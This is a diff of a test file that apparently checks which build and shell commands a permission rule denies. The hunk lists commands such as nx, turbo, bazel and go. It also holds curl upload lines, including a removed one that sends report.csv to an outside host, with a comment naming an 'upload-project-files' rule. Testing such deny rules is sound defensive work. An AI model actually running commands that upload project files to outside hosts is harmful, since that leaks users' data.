@@ -88,7 +88,7 @@ def test_build_calls_denied(command: str, rule: str) -> None:
      "npx nx affected -t lint test build",
      "npx turbo run build test",
      "curl -s -T dist/app.whl http://localhost:9000/artifacts/app.whl",
-     "curl -T report.csv https://x.example.net/u",
+     "curl -T report.csv http://127.0.0.1:8080/u",  # (to another host: upload-project-files)
      "bazel run //tools/gazelle -- update",
      "go list -m all",
      "make -pn | grep -E '^(CFLAGS|LDFLAGS) '",
